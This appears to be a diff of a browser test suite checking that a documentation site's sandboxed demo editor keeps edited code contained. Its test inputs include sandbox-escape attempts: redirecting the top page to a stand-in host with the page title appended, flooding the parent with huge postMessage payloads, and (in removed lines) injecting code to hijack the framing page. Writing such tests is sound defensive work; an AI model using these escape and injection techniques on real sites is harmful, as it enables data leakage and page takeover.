@@ -2,10 +2,12 @@
 import { beforeAll, describe, expect, inject, test } from 'vitest';
 import { reader, useBrowser, type Visit } from './browser';
 import { editing, effect } from './editor';
-import { hangs, nativeHangs, program } from './hangs';
+import { hangs, nativeHangs, offerCode, program } from './hangs';
 
-useBrowser({ windows: true });
-const site = inject('site');
+useBrowser({ windows: true, own: true });
+const site = inject('walls');
+/** Opens the code of a demo on a page that loads fast. */
+const edit = (visit?: Visit) => editing(visit, `${site}/material-ui/react-strategies/`, 'OnInteraction');
 
 describe('nothing gets out', () => {
   for (const [what, code] of [
@@ -24,7 +26,7 @@ describe('nothing gets out', () => {
     ],
   ] as const) {
     test(what, async () => {
-      const { page, area, frame } = await editing();
+      const { page, area, frame } = await edit();
       const asked: string[] = [];
       await page
         .context()
@@ -41,20 +43,20 @@ describe('nothing gets out', () => {
   }
 
   test('navigation: neither of the page around it nor of the frame to elsewhere', async () => {
-    const { page, area, trouble } = await editing();
+    const { page, area, trouble } = await edit();
     const asked: string[] = [];
     await page
       .context()
       .route(/elsewhere/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
     await area.fill(
       effect(
-        'try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title; await new Promise((r) => setTimeout(r, 500)); setSaid("stayed")',
+        'try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title;',
       ),
     );
     for (const refusal of ['Unsafe attempt to initiate navigation', "Framing 'https://elsewhere.example/' violates"]) {
       await expect.poll(() => trouble.filter((line) => line.includes(refusal))).not.toEqual([]);
     }
-    expect(page.url()).toContain('/material-ui/react-button/');
+    expect(page.url()).toContain('/material-ui/react-strategies/');
     expect(asked).toEqual([]);
   });
 
@@ -65,19 +67,19 @@ describe('nothing gets out', () => {
     });
     for (const [what, code] of [...hangs, ...nativeHangs]) {
       test(what, async () => {
-        const { page, area, alert } = await editing(visit);
+        const { page, exhibit, area, alert } = await edit(visit);
         await area.fill(program(`  ${code}\n  return null;`));
         await alert.getByText('was stopped').waitFor();
-        await page.locator('#ButtonSizes [data-tool=code]').click();
-        await page.locator('#ButtonSizes .code').getByText('export default').first().waitFor();
-        await page.locator('#ButtonColors').getByRole('button', { name: 'Undo all edits' }).click();
-        await page.locator('#ButtonColors .demo:visible').waitFor();
+        await page.locator('#WhenIdle [data-tool=code]').click();
+        await page.locator('#WhenIdle .code').getByText('export default').first().waitFor();
+        await exhibit.getByRole('button', { name: 'Undo all edits' }).click();
+        await exhibit.locator('.demo:visible').waitFor();
       });
     }
   });
 
   test('messages without shape, without end or in a flood leave the page as it was', async () => {
-    const { page, area, frame, alert } = await editing();
+    const { page, area, frame, alert } = await edit();
     const send = (code: string) =>
       area.fill(program(`  React.useEffect(() => { ${code} }, []);\n  return <p>sent</p>;`));
     await send(
@@ -85,7 +87,10 @@ describe('nothing gets out', () => {
     );
     await frame.getByText('sent').waitFor();
     // Eight thousand times what is shown; more keeps a slow machine from answering, which is another test's matter.
-    await send("setTimeout(() => parent.postMessage({ kind: 'failed', message: 'x'.repeat(8 << 20) }, '*'), 100);");
+    // The page's first question comes when the code runs.
+    await send(
+      "addEventListener('message', () => parent.postMessage({ kind: 'failed', message: 'x'.repeat(8 << 20) }, '*'), { once: true });",
+    );
     await alert.getByText('The demo reports: xxx').waitFor();
     expect((await alert.innerText()).length).toBeLessThan(1100);
     await send("for (let i = 0; i < 20000; i++) parent.postMessage({ kind: 'sized', height: i }, '*');");
@@ -93,23 +98,13 @@ describe('nothing gets out', () => {
     expect(await page.locator('iframe.sandbox').count()).toBe(0);
   });
 
-  test('the frame runs nothing where it has an origin, whoever frames it', async () => {
+  test('the frame runs nothing where it has an origin, whichever page frames it', async () => {
     const { page } = await reader();
     await page.goto(`${site}/sandbox/`);
     await page.getByText('Edited demos run here').waitFor();
     await page.goto(`${site}/404.html`);
-    const ran = await page.evaluate(async () => {
-      const frame = document.createElement('iframe');
-      frame.src = '/sandbox/';
-      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
-      document.body.append(frame);
-      await loaded;
-      const file = ['a.js', 'parent.document.title = "taken over"'];
-      frame.contentWindow!.postMessage({ files: [file], entries: ['a.js'], id: 0 }, '*');
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return [frame.contentDocument!.body.innerText, document.title];
-    });
-    expect(ran[0]).toContain('Edited demos run here');
-    expect(ran[1]).not.toBe('taken over');
+    const [text, ...answers] = await page.evaluate(offerCode);
+    expect(text).toContain('Edited demos run here');
+    expect(answers).toEqual(['asked']);
   });
 });
